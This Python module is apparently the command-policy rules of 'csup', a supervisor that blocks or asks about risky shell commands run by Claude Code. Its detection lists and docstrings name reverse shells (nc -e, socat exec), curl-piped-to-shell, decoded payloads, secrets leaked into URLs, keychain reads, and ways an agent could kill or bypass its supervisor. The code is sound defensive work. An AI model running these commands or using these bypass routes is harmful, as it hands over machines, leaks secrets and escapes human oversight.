"""Rules on what commands do rather than which files they touch.

Git history and work-tree destruction, remote code execution (``curl | sh``, decoded payloads
run by a shell), shutting the machine down, killing every process (or csup and Claude
themselves), network fetches and publishing.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from fnmatch import fnmatchcase

from csup._lazy_re import LazyRegex
from csup.policy.programs.flags import Args, git_subcommand, parse_args
from csup.policy.programs.inline import (
    DECODED_CODE,
    INTERPRETERS,
    REMOTE_CODE,
    REVERSE_SHELL,
    STDIN_CODE,
)
from csup.policy.programs.wrappers import SHELLS
from csup.policy.rules.base import Context, Finding, ask, deny, rule, shown
from csup.policy.rules.delete import judge_delete
from csup.policy.rules.fs import judge_write
from csup.policy.rules.shipping import dumps_environment
from csup.policy.syntax.command import Analysis, Command

FETCHERS = frozenset(
    {
        "curl",
        "wget",
        "fetch",
        "http",
        "https",
        "xh",
        "httpie",
        "aria2c",
        "nc",
        "ncat",
        "netcat",
        "socat",
        "lwp-download",
        "lwp-request",
        "GET",
    }
)
_INTERPRETERS = SHELLS | {
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "node",
    "php",
    "bun",
    "deno",
    "lua",
    "source",
    ".",
    "eval",
    "pwsh",
    "pwsh.exe",
    "powershell",
    "powershell.exe",
    "luajit",
}
_NETWORK = FETCHERS | {"ssh", "scp", "sftp", "ftp", "lftp", "telnet", "rsync", "mosh"}
# (command, subcommand or None): publishing to the outside world
_PUBLISH = {
    ("npm", "publish"),
    ("npm", "unpublish"),
    ("npm", "deprecate"),
    ("pnpm", "publish"),
    ("yarn", "publish"),
    ("yarn", "npm"),
    ("bun", "publish"),
    ("twine", "upload"),
    ("poetry", "publish"),
    ("uv", "publish"),
    ("flit", "publish"),
    ("hatch", "publish"),
    ("cargo", "publish"),
    ("cargo", "yank"),
    ("gem", "push"),
    ("docker", "push"),
    ("podman", "push"),
    ("helm", "push"),
    ("mvn", "deploy"),
    ("gradle", "publish"),
    ("vsce", "publish"),
    ("dotnet", "nuget"),
    ("gh", "release"),
    ("gh", "pr"),
    ("gh", "repo"),
    ("gh", "gist"),
    ("gh", "api"),
    ("git", "push"),
    ("fly", "deploy"),
    ("flyctl", "deploy"),
    ("netlify", "deploy"),
    ("firebase", "deploy"),
    ("wrangler", "deploy"),
    ("wrangler", "publish"),
    ("vercel", "deploy"),
    ("serverless", "deploy"),
    ("sls", "deploy"),
    ("cdk", "deploy"),
}
_SESSION_PROCESSES = SHELLS | {
    "sshd",
    "systemd",
    "init",
    "launchd",
    "loginwindow",
    "WindowServer",
    "Xorg",
    "Xwayland",
    "gnome-shell",
    "plasmashell",
    "kwin_x11",
    "kwin_wayland",
    "login",
    "dbus-daemon",
}
"""Processes whose killing takes down the user's session (every shell, the desktop, sshd)."""
_DOWN = frozenset({"shutdown", "reboot", "halt", "poweroff", "kexec"})
_GIT_FORCE = {"f": "force", "force-with-lease": "force", "force-if-includes": "force"}


def _is_decoder(command: Command) -> bool:
    argv = command.argv
    if command.name in ("base64", "base32", "basenc"):
        return any(a in ("-d", "-D", "--decode") or a.startswith("-d") for a in argv[1:])
    if command.name in ("xxd", "openssl", "uudecode", "gunzip", "zcat", "gzip", "bzcat", "xzcat"):
        return command.name in ("uudecode", "gunzip", "zcat", "bzcat", "xzcat") or any(
            a in ("-r", "-d", "-decode") for a in argv[1:]
        )
    return False


def _reads_stdin(command: Command) -> bool:
    """Whether an interpreter takes its program from standard input (or its ``-c``/``-e``
    program runs what standard input gives it: ``exec(sys.stdin.read())``)."""
    from csup.policy.programs.inline import code_of  # noqa: PLC0415 - loaded by then
    from csup.policy.programs.interpreters import knows_options  # noqa: PLC0415
    from csup.policy.programs.runs import reads_program_from_stdin  # noqa: PLC0415

    if not knows_options(command.name):  # shells, `source`, PowerShell
        operands = [a for a in command.argv[1:] if not a.startswith("-") or a == "-"]
        return not operands or operands[0] == "-" or operands[0].startswith("/dev/stdin")
    code = code_of(command.argv) if len(command.argv) > 2 else None
    if code is not None:
        return STDIN_CODE.search(code) is not None
    return reads_program_from_stdin(command)


def _code(command: Command) -> str | None:
    """The ``-c``/``-e`` program of an interpreter, if any."""
    if command.name not in INTERPRETERS and not command.name.startswith("python"):
        return None
    from csup.policy.programs.runs import program_of  # noqa: PLC0415 - loaded by then

    return program_of(command)


@rule(*_INTERPRETERS)
def runs_remote_code(command: Command, ctx: Context) -> Iterator[Finding]:
    """A shell or interpreter running what a download or a decoder produced."""
    code = _code(command)
    if code is not None and REVERSE_SHELL.search(code):
        yield _reverse_shell(command)
    if code is not None and REMOTE_CODE.search(code):
        yield deny(
            "exec.remote-code",
            f"Blocked {shown(command)}: its program downloads code and runs it. Download the "
            "code to a file, read it, and run it only if it is what you expect.",
        )
    if code is not None and DECODED_CODE.search(code):
        yield deny(
            "exec.decoded-payload",
            f"Blocked {shown(command)}: its program runs a decoded (hidden) payload. Write the "
            "commands out in plain text instead.",
        )
        return
    piped = command.upstream if _reads_stdin(command) else ()
    sources = [*piped, *command.feeds]
    fetcher = next((c for c in sources if c.name in FETCHERS), None)
    decoder = next((c for c in sources if _is_decoder(c)), None)
    if fetcher is not None:
        yield deny(
            "exec.remote-code",
            f"Blocked {shown(command)} fed by {shown(fetcher)}: it runs code straight from the "
            "network. Download the script to a file, read it, and run it only if it is what "
            "you expect.",
        )
    elif decoder is not None:
        yield deny(
            "exec.decoded-payload",
            f"Blocked {shown(command)} fed by {shown(decoder)}: it runs a decoded (hidden) "
            "payload. Write the commands out in plain text instead.",
        )


_GIT_VALUES = {
    "clean": frozenset({"e", "exclude"}),
    "push": frozenset({"o", "push-option", "repo", "receive-pack", "exec"}),
}
"""Short options of git subcommands that take a value (``git clean -e.env`` is not ``-n``)."""


@rule("git")
def git(command: Command, ctx: Context) -> Iterator[Finding]:
    """Force pushes, hard resets, forced cleans, history rewrites; plain pushes publish."""
    index = git_subcommand(command.argv)
    if index is None:
        return
    sub, argv = command.argv[index], command.argv[index:]
    args = parse_args(argv, aliases=_GIT_FORCE, takes_value=_GIT_VALUES.get(sub, frozenset()))
    words = set(argv[1:])
    if sub == "push":
        yield from _git_push(command, args.has("force"), [o for o, _ in args.operands], words, ctx)
    elif sub == "reset" and "--hard" in words:
        yield deny(
            "git.reset-hard",
            f"Blocked {shown(command)}: it throws away uncommitted work "
            "for good. Commit or stash first, or use `git reset --soft` / "
            "`git restore --staged`.",
        )
    elif sub == "clean" and args.has("force") and not args.has("n", "dry-run"):
        yield deny(
            "git.clean-force",
            f"Blocked {shown(command)}: it deletes untracked files, "
            "which git cannot bring back. Run `git clean -n` to see "
            "what would go and delete specific paths.",
        )
    elif (
        sub in ("filter-branch", "filter-repo")
        or (sub == "reflog" and words & {"expire", "delete"})
        or (sub == "update-ref" and "-d" in words)
        or (sub == "gc" and any(w.startswith("--prune=now") for w in words))
    ):
        yield deny(
            "git.history-rewrite",
            f"Blocked {shown(command)}: it rewrites or erases git "
            "history. Ask the user to do this themselves.",
        )
    elif sub == "branch" and (
        args.has("D") or (args.has("delete", "d") and args.has("force", "f"))
    ):
        yield deny(
            "git.branch-force-delete",
            f"Blocked {shown(command)}: it deletes a branch "
            "even if its commits are not merged anywhere. Use "
            "`git branch -d`.",
        )
    elif sub == "rm" and not args.has("cached", "n", "dry-run"):
        yield from judge_delete(
            command,
            [(o, False) for o, _ in args.operands],
            args.has("r", "R", "recursive"),
            args.has("force"),
            ctx,
        )
    elif sub == "config" and words & {"--global", "--system"} and _config_writes(args):
        yield ask(
            "workspace.outside",
            f"{shown(command)} changes git's configuration for every repository of the user.",
        )
    elif sub == "stash" and words & {"clear"}:
        yield deny("git.stash-clear", f"Blocked {shown(command)}: it drops every stash for good.")
    elif sub == "stash" and [o for o, _ in args.operands][:1] == ["drop"]:
        yield deny(
            "git.stash-drop",
            f"Blocked {shown(command)}: it deletes stashed work for good. Use "
            "`git stash pop` (which keeps the stash if it does not apply cleanly), or ask "
            "the user.",
        )
    elif sub == "worktree" and "remove" in words and args.has("f", "force"):
        yield deny(
            "git.discard-changes",
            f"Blocked {shown(command)}: it deletes a work tree with its uncommitted changes. "
            "Commit them first, or run `git worktree remove` without `--force`.",
        )
    elif _discards_work_tree(
        sub, args.has("f", "force", "discard-changes"), [o for o, _ in args.operands], words
    ):
        yield deny(
            "git.discard-changes",
            f"Blocked {shown(command)}: it throws away every uncommitted change in the work "
            "tree. Restore the specific files you changed instead.",
        )


def _config_writes(args: Args) -> bool:
    """Whether ``git config`` sets or unsets something (not ``--get``, ``--list`` ...)."""
    reading = ("get", "get-all", "get-regexp", "list", "l", "show-origin", "get-urlmatch")
    if args.has(*reading):
        return False
    operands = [o for o, _ in args.operands]
    if operands[:1] in (["get"], ["list"]):
        return False
    return len(operands) > 1 or args.has("unset", "unset-all", "add", "replace-all", "edit", "e")


def _discards_work_tree(sub: str, force: bool, operands: list[str], words: set[str]) -> bool:
    """``git checkout -- .``, ``git checkout -f``, ``git restore .`` (not ``--staged``)."""
    everything = {".", ":/", "*", "./"} & set(operands)
    if sub == "checkout":
        return force or bool(everything)
    if sub == "switch":
        return force or "--discard-changes" in words
    if sub == "restore":
        return bool(everything) and (
            "--worktree" in words or "-W" in words or not ({"--staged", "-S"} & words)
        )
    return False


_MAINLINES = ("main", "master", "trunk", "develop", "development", "dev", "release*",
              "prod*", "stable", "staging", "live", "gh-pages")  # fmt: skip
"""Branches a ``--force-with-lease`` push may not touch when the policy names none."""


def _lease_only(words: set[str], refspecs: list[str]) -> bool:
    """Whether a forced push is forced only with a lease (no ``-f``, ``--force``, ``+ref``)."""
    leased = any(w.startswith("--force-with-lease") for w in words)
    plain = "--force" in words or "--mirror" in words or "--all" in words
    plain = plain or any(w.startswith("-") and not w.startswith("--") and "f" in w for w in words)
    return leased and not plain and not any(r.startswith("+") for r in refspecs)


def _git_push(
    command: Command, force: bool, operands: list[str], words: set[str], ctx: Context
) -> Iterator[Finding]:
    refspecs = operands[1:]
    deletes = (
        bool({"--delete", "-d", "--prune"} & words)
        or any(w.startswith("-") and not w.startswith("--") and "d" in w for w in words)
        or any(r.startswith(":") for r in refspecs)
    )
    if deletes:
        targets = [r.lstrip(":").removeprefix("refs/heads/") for r in refspecs]
        protected = ctx.protected_branches
        if protected is None or any(fnmatchcase(t, p) for t in targets for p in protected):
            yield deny(
                "git.push-delete",
                f"Blocked {shown(command)}: it deletes branches or tags on the remote, where "
                "others may rely on them. Ask the user to delete them.",
            )
    force = force or "--mirror" in words or any(r.startswith("+") for r in refspecs)
    if force:
        protected = ctx.protected_branches
        targets = [r.lstrip("+").rsplit(":", 1)[-1].removeprefix("refs/heads/") for r in refspecs]
        if protected is None and _lease_only(words, refspecs):
            # `--force-with-lease` refuses to overwrite what it has not seen: to a named
            # branch that is no one's mainline, it is the everyday rebase-and-push
            protected = _MAINLINES
            targets = _current_branch_for(command, targets, operands, ctx)
            if any(t in ("HEAD", "@", "") or t.startswith("HEAD") for t in targets):
                protected = None
        hits = (
            protected is None
            or "--mirror" in words
            or "--all" in words
            or not targets
            or any(fnmatchcase(t, p) for t in targets for p in protected)
        )
        if hits:
            which = "any branch" if protected is None else "a protected branch"
            yield deny(
                "git.push-force",
                f"Blocked {shown(command)}: a force push to {which} "
                "overwrites commits others may rely on. Push to a new "
                "branch instead.",
            )
    # every finding, not just the first: an [[exception]] may drop one of them
    yield ask("net.publish", f"{shown(command)} publishes to a remote repository.")


def _current_branch_for(
    command: Command, targets: list[str], operands: list[str], ctx: Context
) -> list[str]:
    """``targets`` with the current branch for a push of it (no refspec, ``HEAD``), when the
    repository on disk names it; unchanged otherwise."""
    if targets and not all(t in ("HEAD", "@") for t in targets):
        return targets
    if len(operands) > 2 or any(w in ("-C", "--git-dir", "--work-tree") for w in command.argv):
        return targets
    from csup.policy.programs.gitrepo import current_branch  # noqa: PLC0415 - pushes only

    branch = current_branch(ctx.where.cwd)
    return targets if branch is None else [branch]


@rule()
def publishes(command: Command, ctx: Context) -> Iterator[Finding]:
    """Uploads to registries, releases, pull requests (git push is judged by :func:`git`)."""
    if command.name == "git":
        return
    operands = [a for a in command.argv[1:] if not a.startswith("-")]
    sub = operands[0] if operands else None
    if command.name == "gh" and operands[1:2] == ["clone"]:
        yield ask("net.fetch", f"{shown(command)} downloads from the network.")
    elif (command.name, sub) in _PUBLISH and not (command.name == "gh" and _gh_read_only(operands)):
        yield ask("net.publish", f"{shown(command)} publishes outside the workspace.")


def _gh_read_only(operands: list[str]) -> bool:
    return len(operands) > 1 and operands[1] in ("list", "view", "status", "diff", "checks")


@rule(*_NETWORK)
def fetches(command: Command, ctx: Context) -> Iterator[Finding]:
    """Network clients: ask (at ``moderate``); ``rsync`` only with a remote side."""
    args = command.argv[1:]
    if all(a in ("--version", "-V", "--help", "-h") for a in args) and args:
        return
    if command.name in FETCHERS:
        for path in _downloaded(command, whole=True):
            found = list(judge_write(command, path, False, ctx))
            if any(f.behavior == "deny" for f in found):
                yield from found  # and still the ask below, should an exception drop these
    if command.name == "rsync" and not any(":" in a for a in args if not a.startswith("-")):
        return
    yield ask("net.fetch", f"{shown(command)} talks to the network.")


@rule(*_DOWN, "init", "telinit", "systemctl", "loginctl")
def shuts_down(command: Command, ctx: Context) -> Iterator[Finding]:
    """Shutdown, reboot, halt: the machine goes away."""
    args = command.argv[1:]
    if command.name in ("init", "telinit") and not {"0", "6"} & set(args):
        return
    if command.name in ("systemctl", "loginctl") and not {
        "poweroff",
        "reboot",
        "halt",
        "kexec",
        "suspend",
        "hibernate",
        "kill-session",
        "terminate-session",
        "kill-user",
        "terminate-user",
    } & set(args):
        return
    if command.name == "shutdown" and "-c" in args:
        return
    yield deny(
        "system.shutdown",
        f"Blocked {shown(command)}: it shuts down, reboots or "
        "suspends the machine (or logs the user out).",
    )


@rule("kill", "killall", "pkill", "killall5", "skill")
def kills(command: Command, ctx: Context) -> Iterator[Finding]:
    """Killing every process, init, or csup and Claude themselves."""
    args = list(command.argv[1:])
    if command.name == "kill" and args and args[0].startswith("-") and args[0] != "--":
        args = args[2:] if args[0] in ("-s", "-n") else args[1:]
    operands = [a for a in args if a != "--" and not (command.name != "kill" and a.startswith("-"))]
    inverse = command.name in ("pkill", "pgrep") and any(
        a == "--inverse" or (a.startswith("-") and not a.startswith("--") and "v" in a)
        for a in args
    )
    everything = (
        inverse
        or command.name == "killall5"
        or (command.name != "kill" and bool(_SESSION_PROCESSES & set(operands)))
        or (command.name == "kill" and {"-1", "1"} & set(operands))
        or (
            command.name != "kill"
            and ({".", ".*", "*", "''"} & set(operands) or ("-u" in args and len(operands) <= 1))
        )
    )
    if everything:
        yield deny(
            "system.kill-all",
            f"Blocked {shown(command)}: it kills every process (or "
            "init), taking the session and the machine down. Kill "
            "the specific process ids you started.",
        )
    elif (
        any("claude" in o or "csup" in o or "$PPID" in o for o in operands)
        or any(_names_us(a) for f in command.feeds for a in f.argv[1:])
        or any(  # `ps aux | grep csup | awk '{print $2}' | xargs kill`
            _names_us(a) and u.name in _PROCESS_FINDERS
            for u in command.upstream
            for a in u.argv[1:]
        )
    ):
        yield deny(
            "csup.self-protect",
            f"Blocked {shown(command)}: it would kill csup or "
            "Claude Code, switching supervision off.",
        )


def _names_us(pattern: str) -> bool:
    """Whether a process pattern names claude or csup (``[c]laude``, ``cl.ude`` too)."""
    plain = re.sub(r"\[(.)\]", r"\1", pattern).replace(".", "").replace("\\", "")
    return "claude" in plain or "csup" in plain or "claude" in pattern or "csup" in pattern


_PROCESS_FINDERS = frozenset({"grep", "egrep", "fgrep", "rg", "pgrep", "pidof", "awk", "sed", "ps"})


def judge_guard_variables(analysis: Analysis) -> Iterator[Finding]:
    """``CLAUDE_CONFIG_DIR=/tmp/x claude``, ``CSUP_POLICY=permissive csup run``: another
    configuration, without csup's hooks or with a weaker policy."""
    yield from _agent_bypass_variables(analysis)
    names = [n for n, _ in analysis.assigned if n == "CLAUDE_CONFIG_DIR" or n.startswith("CSUP_")]
    if not names:
        return
    started = next((c for c in analysis.commands if c.name in ("claude", "csup")), None)
    if started is not None:
        yield deny(
            "csup.agent-bypass",
            f"Blocked {shown(started)} with `{names[0]}` set: it starts "
            f"{'Claude Code' if started.name == 'claude' else 'csup'} with another "
            "configuration, outside the supervision of this session.",
        )


_BYPASS_VARIABLE = LazyRegex(
    r"([A-Z][A-Z0-9]*)_(?:YOLO|DANGEROUSLY_SKIP_PERMISSIONS|SKIP_PERMISSIONS|AUTO_APPROVE)"
)
"""``OPENCODE_YOLO=true opencode``: an agent told by its environment to ask nothing."""


def _agent_bypass_variables(analysis: Analysis) -> Iterator[Finding]:
    for name, value in analysis.assigned:
        match = _BYPASS_VARIABLE.fullmatch(name)
        if match is None or value.strip().lower() in ("", "0", "false", "no", "off"):
            continue
        agent = match.group(1).lower()
        started = next((c for c in analysis.commands if c.name == agent), None)
        if started is not None:
            yield deny(
                "csup.agent-bypass",
                f"Blocked {shown(started)} with `{name}` set: it starts the agent running "
                "every action without asking, outside the supervision of this session.",
            )
            return


@rule("claude")
def configures_claude(command: Command, ctx: Context) -> Iterator[Finding]:
    """``claude config set ...`` and friends rewrite Claude Code's settings."""
    if {"config", "mcp", "--dangerously-skip-permissions"} & set(command.argv[1:]) and not (
        {"get", "list", "ls"} & set(command.argv[1:])
    ):
        yield deny(
            "csup.self-protect",
            f"Blocked {shown(command)}: it changes Claude Code's "
            "configuration, which csup relies on.",
        )


@rule()
def privileged(command: Command, ctx: Context) -> Iterator[Finding]:
    """Anything run as root through ``sudo``/``doas``: ask (at ``moderate``)."""
    if "sudo" in command.via or "doas" in command.via or command.name in ("sudo", "doas", "su"):
        yield ask("system.privileged", f"{shown(command)} runs with root privileges.")


_RUNS_FILE = SHELLS | {"python", "python2", "python3", "perl", "ruby", "node", "php", "source", "."}
_OUTPUT_OPTIONS = frozenset({"-o", "--output", "-O", "--output-document"})


def _downloaded(command: Command, *, whole: bool = False) -> Iterator[str]:
    """Base names (``whole``: paths) of the files a fetcher writes with ``-o FILE``."""
    argv = command.argv
    for i, word in enumerate(argv[1:], start=1):
        if word in _OUTPUT_OPTIONS and i + 1 < len(argv) and i + 1 not in command.dynamic:
            path = argv[i + 1]
        elif word.startswith(("--output=", "--output-document=")):
            path = word.split("=", 1)[1]
        elif len(word) > 2 and word[:2] in ("-o", "-O") and not word.startswith("--"):
            path = word[2:]
        else:
            continue
        if path and path != "-":
            yield path if whole else path.rstrip("/").rsplit("/", 1)[-1]


def judge_download_and_run(analysis: Analysis) -> Iterator[Finding]:
    """A file downloaded in this line and then run: ``curl -o x.sh URL && sh x.sh``."""
    fetchers = [c for c in analysis.commands if c.name in FETCHERS]
    if not fetchers:
        return
    written = {name for c in fetchers for name in _downloaded(c)}
    written |= {r.target.rsplit("/", 1)[-1] for r in analysis.redirects if ">" in r.op}
    written.discard("")
    if not written:
        return
    for command in analysis.commands:
        if command.name in _RUNS_FILE:
            operands = [a for a in command.argv[1:] if not a.startswith("-")]
            ran = operands[0].rsplit("/", 1)[-1] if operands else None
        else:
            ran = command.name
        if ran in written:
            yield deny(
                "exec.remote-code",
                f"Blocked {shown(command)}: it runs `{ran}`, downloaded in the same command "
                "line, without anyone reading it first. Download it, read it, and run it in a "
                "separate step only if it is what you expect.",
            )
            return


_SECRET_VARIABLE = LazyRegex(
    r"\$\{?([A-Z0-9_]*(?:SECRET|TOKEN|PASSWORD|PASSWD|API_?KEY|PRIVATE_?KEY|CREDENTIALS?|"
    r"ACCESS_?KEY)(?:_(?!(?:FILE|PATH|DIR|NAME|ID|URL|COUNT|LENGTH|TYPE|ENDPOINT|HOST)\b)"
    r"[A-Z0-9]+)*)(?![\w])",
)


_SECRET_WORD = LazyRegex(
    r"(?i)secret|token|passw|api_?key|private|credential|access_?key|auth|_key\b|^key$|aws|"
    r"github|openai|anthropic|stripe"
)


def judge_shown_secrets(analysis: Analysis) -> Iterator[Finding]:
    """``echo $API_TOKEN``, ``printenv AWS_SECRET_ACCESS_KEY``: a secret printed for all to see.

    Only output that reaches the screen (and so Claude's context and transcript) counts: a
    secret piped into another command (``echo $TOKEN | gh auth login --with-token``) or
    used as an argument is fine.
    """
    piped = {id(u) for c in analysis.commands for u in c.upstream}
    for command in analysis.commands:
        if id(command) in piped:
            continue
        if command.name in ("grep", "egrep", "rg", "ag", "awk", "sed") and any(
            dumps_environment(u) for u in command.upstream
        ):
            if any(_SECRET_WORD.search(a) for a in command.argv[1:]):
                yield deny(
                    "secrets.access",
                    f"Blocked {shown(command)} on the environment: it prints variables that "
                    "look like secrets into the session's transcript. Check only that they "
                    'are set: `test -n "$NAME"`.',
                )
                return
            continue
        if command.name in ("echo", "printf"):
            words = command.argv[1:]
        elif command.name == "printenv":
            words = tuple(f"${a}" for a in command.argv[1:] if not a.startswith("-"))
        else:
            continue
        match = next((m for w in words if (m := _SECRET_VARIABLE.search(w))), None)
        if match is not None:
            yield deny(
                "secrets.access",
                f"Blocked {shown(command)}: it prints `{match.group(1)}`, which looks like a "
                "secret, into the session's transcript. Use the variable without printing "
                'it, or check only that it is set: `test -n "${match.group(1)}"`.',
            )
            return


_KEYCHAIN = frozenset(
    {
        "find-generic-password",
        "find-internet-password",
        "dump-keychain",
        "export",
        "find-identity",
        "unlock-keychain",
    }
)


@rule("security", "gpg", "gpg2", "secret-tool", "pass", "op", "bw", "lpass")
def reads_keychains(command: Command, ctx: Context) -> Iterator[Finding]:
    """Keychains and password stores: macOS ``security``, GnuPG secret keys, ``pass`` ..."""
    args = set(command.argv[1:])
    hit = (
        (command.name == "security" and bool(_KEYCHAIN & args))
        or (
            command.name.startswith("gpg")
            and any(a.startswith(("--export-secret", "--export-ownertrust")) for a in args)
        )
        or (command.name == "secret-tool" and bool({"lookup", "search"} & args))
        or (command.name == "pass" and bool(args) and not {"ls", "list", "find"} & args)
        or (command.name in ("op", "bw", "lpass") and bool({"get", "read", "show"} & args))
    )
    if hit:
        yield deny(
            "secrets.access",
            f"Blocked {shown(command)}: it reads secrets from a keychain or password store. "
            "Ask the user for the value you need.",
        )


@rule("crontab")
def replaces_crontab(command: Command, ctx: Context) -> Iterator[Finding]:
    """``crontab -r`` deletes every cron job; ``crontab FILE`` / ``crontab -`` replaces them."""
    args = command.argv[1:]
    if {"-l", "-e"} & set(args) and "-r" not in args:
        return
    if args:
        yield deny(
            "system.crontab",
            f"Blocked {shown(command)}: it deletes or replaces the user's cron jobs, which run "
            "outside any session. Ask the user to change their crontab.",
        )


@rule("history")
def clears_history(command: Command, ctx: Context) -> Iterator[Finding]:
    """``history -c`` / ``-d``: erasing the record of what was run."""
    if any(a.startswith("-") and ("c" in a or "d" in a) for a in command.argv[1:]):
        yield deny(
            "system.history",
            f"Blocked {shown(command)}: it erases the shell history, the record of what was run.",
        )


def _reverse_shell(command: Command) -> Finding:
    return deny(
        "exec.reverse-shell",
        f"Blocked {shown(command)}: it connects a shell to the network, handing control of "
        "this machine to whoever is at the other end.",
    )


@rule("nc", "ncat", "netcat", "socat", "telnet")
def serves_a_shell(command: Command, ctx: Context) -> Iterator[Finding]:
    """``nc -e /bin/sh host port``, ``socat tcp:host:port exec:sh``: a reverse (or bind) shell."""
    args = command.argv[1:]
    if command.name == "socat":
        hit = any(a.lower().startswith(("exec:", "system:")) for a in args)
    else:
        hit = (
            any(
                a in ("--exec", "--sh-exec", "--lua-exec")
                or a.startswith(("--exec=", "--sh-exec="))
                or (a.startswith("-") and not a.startswith("--") and ("e" in a or "c" in a))
                for a in args
            )
            and command.name != "telnet"
        )
    if hit:
        yield _reverse_shell(command)


@rule("xterm", "xfce4-terminal", "gnome-terminal", "konsole", "urxvt", "rxvt")
def opens_a_remote_display(command: Command, ctx: Context) -> Iterator[Finding]:
    """``xterm -display HOST:1``: a terminal, with a shell, shown on another machine's screen."""
    argv = command.argv
    for i, word in enumerate(argv[1:-1], start=1):
        if word in ("-display", "--display", "-d") and i + 1 not in command.dynamic:
            host = argv[i + 1].rsplit(":", 1)[0]
            if host not in ("", "localhost", "127.0.0.1", "unix"):
                yield _reverse_shell(command)
                return


_ENV_FILE = LazyRegex(r"(?:^|/)\.env(?:rc)?(?:\.(?!example$|sample$|template$|dist$)[\w.-]+)?$")
_HEADER_OPTIONS = frozenset(
    {"-H", "--header", "-u", "--user", "--oauth2-bearer", "-A", "--user-agent", "--proxy-user",
     "--http-user", "--http-password", "--password", "--header="}
)  # fmt: skip
_NAME_LOOKUPS = frozenset({"dig", "nslookup", "host", "drill", "ping", "ping6", "traceroute"})
_DATA_OPTIONS = frozenset(
    {"-d", "--data", "--data-raw", "--data-binary", "--data-urlencode", "-F", "--form",
     "--json", "--post-data", "--body-data"}
)  # fmt: skip


def _prints_environment(command: Command) -> bool:
    """``env``, ``printenv``, ``export -p``, ``declare -x``, ``set``: every variable shown."""
    args = command.argv[1:]
    if command.name in ("env", "printenv"):
        return all(a.startswith("-") and a not in ("-u", "-C", "-S") for a in args)
    if command.name == "export":
        return args in ((), ("-p",))
    if command.name in ("declare", "typeset"):
        return args in ((), ("-p",), ("-x",), ("-px",), ("-xp",))
    return command.name == "set" and not args


def judge_printed_environment(analysis: Analysis) -> Iterator[Finding]:
    """``source .env; env``: the secrets just loaded, printed into the transcript."""
    loaded = False
    piped = {id(u) for c in analysis.commands for u in c.upstream}
    for command in analysis.commands:
        if command.name in ("source", ".") and any(_ENV_FILE.search(a) for a in command.argv[1:2]):
            loaded = True
        elif loaded and id(command) not in piped and _prints_environment(command):
            yield deny(
                "secrets.access",
                f"Blocked {shown(command)} after loading an environment file: it prints the "
                "secrets just loaded into the session's transcript. Check only that a "
                'variable is set: `test -n "$NAME"`.',
            )
            return


@rule(*FETCHERS, *_NAME_LOOKUPS, "ssh", "scp", "rsync", "git")
def puts_secrets_in_addresses(command: Command, ctx: Context) -> Iterator[Finding]:
    """A secret in a URL or a host name (``curl https://x/?k=$TOKEN``, ``dig $KEY.evil``)
    leaves the machine in clear text and in every log on the way; in posted data it is
    asked."""
    argv = command.argv
    for i, word in enumerate(argv[1:], start=1):
        if "$" not in word or argv[i - 1] in _HEADER_OPTIONS or word.startswith("-H"):
            continue
        match = _SECRET_VARIABLE.search(word)
        if match is None:
            continue
        if argv[i - 1] in _DATA_OPTIONS or word.startswith(("--data", "--post-data")):
            yield ask(
                "secrets.send",
                f"{shown(command)} sends `{match.group(1)}`, which looks like a secret.",
            )
            return
        if command.name in _NAME_LOOKUPS or "://" in word or "@" in word or "." in word:
            yield deny(
                "secrets.send",
                f"Blocked {shown(command)}: it puts `{match.group(1)}`, which looks like a "
                "secret, into a network address, where it travels and is logged in clear "
                "text. Send credentials only in an authentication header or option.",
            )
            return
